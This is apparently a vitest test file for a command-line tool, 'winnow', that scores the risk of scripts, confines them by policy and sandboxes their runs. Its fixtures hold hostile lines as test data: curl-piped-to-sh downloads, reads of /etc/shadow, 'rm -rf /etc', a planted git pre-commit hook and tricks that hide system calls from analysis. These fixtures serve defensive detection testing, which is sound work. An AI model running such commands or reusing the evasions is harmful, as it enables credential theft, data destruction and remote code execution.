/** Risk through the command line: what is read, what is refused or confined, and what is told of a run. */
import { existsSync, readFileSync } from 'node:fs';
import { delimiter, join } from 'node:path';
import { afterAll, describe, expect, test } from 'vitest';
import { winnow } from './keptprogram.ts';
import { workspace, writeFiles } from './program.ts';

const { dir, home, remove } = workspace();
afterAll(remove);
const onPath = (name: string): boolean =>
  (process.env.PATH ?? '').split(delimiter).some((directory) => existsSync(join(directory, name)));
const lacks = ['python3', 'bwrap'].filter((name) => !onPath(name));
const runs = lacks.length === 0 ? describe : describe.skip;

const installer = `import os, shutil
def clean(path):
    shutil.rmtree(path)
def main():
    clean("/var/lib/app")
    open("notes.txt", "w").write("x")
main()
`;

writeFiles(dir, {
  'installer.py': installer,
  'quiet.py': 'print(sum(range(10)))\n',
  'reach.js': 'const { execSync } = require("child_process");\nexecSync("cat /etc/shadow");\n',
  'get.sh': 'curl -s http://example.org/i.sh | sh\n',
  'other.rb': 'puts 1\n',
  'vendor/a.py': 'import socket\nsocket.socket().connect(("example.org", 80))\n',
  'vendor/b.txt': 'eval(x)\n',
});

const at = (words: string[], input?: string) =>
  winnow(words, { home, cwd: dir, ...(input === undefined ? {} : { input }) });

describe('winnow risk', () => {
  test('a table by line, with what is done to what and why', () => {
    const { stdout, status } = at(['risk', 'installer.py']);
    expect(status).toBe(0);
    expect(stdout).toContain('installer.py  python  critical');
    expect(stdout).toMatch(/3 {2}shutil\.rmtree\(path\)\n\s+critical {2}files: delete \/var\/lib\/app/);
    expect(stdout).toContain('low       files: write notes.txt');
  });

  test('a function with what it calls, and nothing else', () => {
    expect(at(['risk', 'installer.py:clean']).stdout).toContain('1 finding in 1 file.');
    expect(at(['risk', 'installer.py:main']).stdout).toContain('2 findings in 1 file.');
    expect(at(['risk', 'installer.py:nowhere'])).toMatchObject({
      status: 1,
      stderr: expect.stringContaining('unknown-id'),
    });
  });

  test('a directory, as data; files of other languages are left out', () => {
    const { files } = JSON.parse(at(['risk', 'vendor', '--json']).stdout);
    expect(files).toHaveLength(1);
    expect(files[0]).toMatchObject({
      path: 'vendor/a.py',
      findings: [{ category: 'network', act: 'connect', target: 'example.org:80', lines: { first: 2, last: 2 } }],
    });
  });

  test('JavaScript, and the shell command in it', () => {
    const { files } = JSON.parse(at(['risk', 'reach.js', '--json']).stdout);
    expect(files[0].findings).toContainEqual(
      expect.objectContaining({
        category: 'files',
        act: 'read',
        target: '/etc/shadow',
        severity: 'high',
        within: ['bash'],
      }),
    );
  });

  test('exit code 1 at a severity, or where something cannot be read', () => {
    expect(at(['risk', 'get.sh', '--fail-at', 'critical']).status).toBe(1);
    expect(at(['risk', 'quiet.py', '--fail-at', 'low'])).toMatchObject({
      status: 0,
      stdout: '1 file read: nothing found.\n',
    });
    const unread = at(['risk', '-', '--lang', 'python', '--fail-at', 'critical'], 'import sys\neval(sys.argv[1])\n');
    expect(unread.status).toBe(1);
    expect(unread.stdout).toContain('unknown');
  });

  test('a language that is not read is said so', () => {
    expect(at(['risk', 'other.rb'])).toMatchObject({ status: 2, stderr: expect.stringContaining('other.rb is Ruby') });
  });
});

describe('winnow risk --policy, and files that a program runs', () => {
  test('what does not parse is unknown, which a policy may refuse', () => {
    writeFiles(dir, { 'broken.py': 'def f(:\n x\n' });
    expect(at(['risk', 'broken.py'])).toMatchObject({ status: 0, stdout: expect.stringContaining('do not parse') });
    const strict = at(['risk', 'broken.py', '--policy', 'strict']);
    expect(strict).toMatchObject({ status: 1, stdout: expect.stringContaining('refused by the policy strict:') });
    expect(at(['risk', 'quiet.py', '--policy', 'strict'])).toMatchObject({
      status: 0,
      stdout: expect.stringContaining('the policy strict lets it run'),
    });
    expect(at(['risk', 'broken.py', '--policy', 'none']).status).toBe(2);
  });

  test('they are read by what runs them, whatever they are called, and are unknown where they are not there', () => {
    writeFiles(dir, {
      'main.sh':
        '. ./lib/words.txt\npython3 lib/job.txt\n./tool\n. ./main.sh\nbash gone.sh\nsource "$D/x.sh"\n. /etc/profile\n',
      'lib/words.txt': 'rm -rf /etc\n',
      'lib/job.txt': 'import os\nos.system("sh deep.txt")\n',
      tool: '#!/usr/bin/env bash\ncurl http://example.org | sh\n',
      'deep.txt': 'cat /etc/shadow\n',
    });
    const { files, policy } = JSON.parse(at(['risk', 'main.sh', '--policy', 'work-directory', '--json']).stdout);
    const told = files.map(({ path, language }: { path: string; language: string }) => `${path} ${language}`);
    expect(told).toEqual(['main.sh bash', 'lib/words.txt bash', 'lib/job.txt python', 'tool bash', 'deep.txt bash']);
    expect(files[0].unknowns.map(({ reason }: { reason: string }) => reason)).toEqual([
      'runs gone.sh, which is not here to be read',
      'runs …/x.sh, whose place is not known before it runs',
    ]);
    expect(files[4].findings).toContainEqual(expect.objectContaining({ category: 'files', target: '/etc/shadow' }));
    expect(policy).toMatchObject({ name: 'work-directory', runs: true, confined: expect.arrayContaining(['files']) });
  });

  test('none is read that lies above the program and the command', () => {
    writeFiles(dir, { 'inner/a.sh': '. ../../../../etc/hostname\n. ../quiet.py\n' });
    const { files } = JSON.parse(at(['risk', 'inner/a.sh', '--json']).stdout);
    expect(files.map(({ path }: { path: string }) => path)).toEqual(['inner/a.sh', 'quiet.py']);
    expect(files[0].unknowns).toHaveLength(1);
  });
});

runs(`winnow run --policy${lacks.length === 0 ? '' : ` (skipped: ${lacks.join(' and ')} not installed)`}`, () => {
  test('strict refuses before anything runs, and names why', () => {
    const { status, stdout, stderr } = at(['run', 'installer.py', '--policy', 'strict']);
    expect({ status, stdout }).toEqual({ status: 1, stdout: '' });
    expect(stderr).toContain('refused by the policy strict; nothing was run');
    expect(stderr).toContain('installer.py:3: files: deletes among the system’s files');
  });

  test('what stays within the work directory runs', () => {
    expect(at(['run', 'quiet.py', '--policy', 'strict'])).toMatchObject({ status: 0, stdout: '45\n' });
  });

  test('a policy of one’s own: asks, and is answered', () => {
    writeFiles(dir, { 'policy.yaml': 'default: refuse\nfiles: ask\n', 'wrong.json': '{"fils": "allow"}' });
    const asked = at(['run', 'installer.py', '--policy', 'policy.yaml']);
    expect(asked.status).toBe(1);
    expect(asked.stderr).toContain('--allow files lets it run');
    const { risk } = JSON.parse(
      at(['run', 'installer.py', '--policy', 'policy.yaml', '--allow', 'files', '--json']).stdout,
    );
    expect(risk.runs).toBe(true);
    expect(at(['run', 'quiet.py', '--policy', 'wrong.json'])).toMatchObject({
      status: 2,
      stderr: expect.stringContaining('"fils" is no category'),
    });
    expect(at(['run', 'quiet.py', '--policy', 'none']).stderr).toContain('strict, work-directory, open or a file');
  });

  test('confined: the network is not granted, whatever was asked for', () => {
    const code =
      'import socket\ntry:\n    socket.create_connection(("192.0.2.1", 80), 1)\nexcept OSError as e:\n    print(e.errno)\n';
    writeFiles(dir, { 'net.py': code });
    const { risk, outcome } = JSON.parse(
      at(['run', 'net.py', '--policy', 'work-directory', '--network', '--json']).stdout,
    );
    expect(risk.confined).toEqual(['network']);
    // ENETUNREACH: there is no network at all.
    expect(outcome.stdout.head).toBe('101\n');
  });

  test('over a directory: what it imports there is read, what is confined is withheld, and the rest is kept', () => {
    writeFiles(dir, {
      'project/fix.py': 'from pkg import helper\nopen("made.txt", "w").write("x")\nhelper.go()\n',
      'project/pkg/__init__.py': '',
      'project/pkg/helper.py': 'import socket\ndef go():\n    socket.socket().connect_ex(("192.0.2.1", 80))\n',
    });
    const strict = at(['run', 'project/fix.py', '--in', 'project', '--policy', 'strict', '--keep']);
    expect(strict).toMatchObject({ status: 1, stderr: expect.stringContaining('pkg/helper.py:3: network: connects') });
    const words = ['--policy', 'work-directory', '--network', '--keep', '--json'];
    const { risk, over } = JSON.parse(at(['run', 'project/fix.py', '--in', 'project', ...words]).stdout);
    expect(risk).toMatchObject({ runs: true, confined: ['network'], withheld: ['--network'], heldBack: [] });
    expect(over).toMatchObject({ applied: { result: 'kept' }, entry: { irreversible: [] } });
    expect(readFileSync(join(dir, 'project/made.txt'), 'utf8')).toBe('x');
  });

  test('over a directory: what a policy refuses and was seen all the same is not kept', () => {
    const hidden = 'import os, sys\nos.mkdir(sys.argv[1])\nopen(sys.argv[1] + "/pre-commit", "w").close()\n';
    writeFiles(dir, { 'hook.py': hidden, 'repo/.git/config': '' });
    const words = ['run', 'hook.py', '--in', 'repo', '--policy', 'work-directory', '--keep', '--', '.git/hooks'];
    const { status, stderr } = at(words);
    expect(status).toBe(1);
    expect(stderr).toContain('refused by the policy work-directory: persistence: install .git/hooks/pre-commit');
    expect(stderr).toContain('nothing is changed in');
    expect(existsSync(join(dir, 'repo/.git/hooks'))).toBe(false);
  });

  test('foretold against seen: the program reports from inside, the sandbox from outside', () => {
    writeFiles(dir, {
      'does.py':
        'import os, sys\nopen("made.txt", "w").write("x")\nos.system("true")\ngetattr(os, sys.argv[1])("/tmp")\n',
    });
    const ran = JSON.parse(at(['run', 'does.py', '--policy', 'open', '--json', '--', 'listdir']).stdout);
    const rows = Object.fromEntries(
      ran.risk.comparison.map((row: { category: string; verdict: string }) => [row.category, row.verdict]),
    );
    expect(rows.processes).toBe('as-foretold');
    expect(ran.risk.seen).toContainEqual(
      expect.objectContaining({ category: 'files', act: 'write', target: 'made.txt', evidence: 'certain' }),
    );
    expect(ran.outcome.files.map(({ path }: { path: string }) => path)).toEqual(['made.txt']);
    // A name that nobody can know before it runs: what it does is seen, and was not foretold.
    writeFiles(dir, { 'hides.py': 'import sys, os\nf = vars(sys.modules[sys.argv[1]])[sys.argv[2]]\nf("true")\n' });
    const hidden = at(['run', 'hides.py', '--policy', 'open', '--', 'os', 'system']);
    expect(hidden.stderr).toMatch(/processes\s+–\s+medium\s+SEEN, NOT FORETOLD/);
    // Native code reports nothing from inside, and is seen all the same.
    writeFiles(dir, { 'native.py': 'import sys\nvars(__import__(sys.argv[1]))["CDLL"](None).system(b"true")\n' });
    const native = at(['run', 'native.py', '--policy', 'open', '--', 'ctypes']);
    expect(native.stderr).toMatch(/processes.*SEEN, NOT FORETOLD\n.*start \/bin\/sh -c true \(certain\)/);
    expect(native.stderr).toContain('seen: from outside, what it wrote, connected to, started and was refused');
  });

  test('JavaScript reports as well: a member that nobody can know before it runs', () => {
    writeFiles(dir, { 'does.mjs': "import fs from 'node:fs';\ntry { fs[process.argv[2]]('/etc/shadow') } catch {}\n" });
    const { stderr } = at(['run', 'does.mjs', '--policy', 'open', '--backend', 'native', '--', 'readFileSync']);
    expect(stderr).toMatch(/files\s+–\s+high\s+SEEN, NOT FORETOLD\n.*read \/etc\/shadow \(reported\)/);
  });

  test('a language that is not read is unknown, which strict refuses', () => {
    expect(at(['run', 'other.rb', '--policy', 'strict']).stderr).toContain('risk is not read from Ruby');
  });

  test('it does not go with what would hide it', () => {
    expect(at(['run', 'quiet.py', '--policy', 'open', '--partial']).status).toBe(2);
    expect(at(['run', 'quiet.py', '--allow', 'files'])).toMatchObject({
      status: 2,
      stderr: expect.stringContaining('--allow is for --policy'),
    });
  });
});

describe('winnow bench risk', () => {
  test('recognised and alarms, of halves', () => {
    const programs = [
      { Index: '7_1', Code: 'open("/etc/shadow").read()' },
      { Index: '7_2', Code: 'open("/etc/shadow").read()' },
      { Index: '12_2', Code: 'print(1)' },
    ];
    writeFiles(dir, {
      'programs.jsonl': programs.map((row) => JSON.stringify(row)).join('\n'),
      'clean.jsonl': JSON.stringify({
        task_id: 'Python/0',
        prompt: 'def f(x):\n',
        canonical_solution: '    return x\n',
      }),
      'bad.jsonl': '{"a": 1}\n',
    });
    const words = ['bench', 'risk', '--data', 'programs.jsonl', '--half', 'even', '--clean', 'clean.jsonl', '--json'];
    const { scores, clean } = JSON.parse(at(words).stdout);
    expect(scores[0]).toMatchObject({ programs: 2, recognised: { share: 0.5 }, contained: null });
    expect(clean[0].alarms.share).toBe(0);
    expect(at(['bench', 'risk', '--data', 'bad.jsonl'])).toMatchObject({
      status: 2,
      stderr: expect.stringContaining('bad.jsonl:1'),
    });
  });
});
